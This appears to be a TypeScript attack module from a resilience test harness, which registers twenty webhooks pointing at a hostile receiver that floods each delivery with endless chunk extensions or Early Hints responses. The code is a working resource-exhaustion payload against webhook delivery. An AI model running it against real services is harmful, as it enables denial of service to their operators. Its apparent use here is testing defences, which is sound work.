import type { TLSSocket } from "node:tls";
import type { Attack, Stage } from "../attack.ts";
import { actSteadily, createWebhook, startHostileReceiver } from "../hostile-receiver.ts";

const WEBHOOKS = 20;

const HEAD = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n1;";
const EXTENSION = Buffer.alloc(65_536, "x");
const HINTS = Buffer.from("HTTP/1.1 103 Early Hints\r\nlink: </a>\r\n\r\n".repeat(1_500));

/** Writes for as long as it is read, a block a millisecond: the attacker's own work must not be what is measured. */
function flood(socket: TLSSocket, block: Buffer): void {
  if (socket.destroyed) return;
  if (socket.write(block)) setTimeout(flood, 1, socket, block);
  else socket.once("drain", () => flood(socket, block));
}

let token = "";
let paths: string[] = [];
let answers = 0;

async function prepare(stage: Stage): Promise<void> {
  const url = await startHostileReceiver(stage, (socket) => {
    const hints = answers++ % 2 === 0;
    if (!hints) socket.write(HEAD);
    flood(socket, hints ? HINTS : EXTENSION);
  });
  ({ token } = await stage.signUp());
  paths = [];
  for (let at = 0; at < WEBHOOKS; at += 1) paths.push(await createWebhook(stage, token, `${url}/${at}`));
}

export const attack: Attack = {
  what: "20 webhooks whose receiver answers with chunk extensions and early hints without end",
  deliveries: true,
  prepare,
  async run(stage) {
    let at = 0;
    await actSteadily(stage, () => stage.send("POST", `${paths[at++ % paths.length]}/test`, { token }));
  },
};
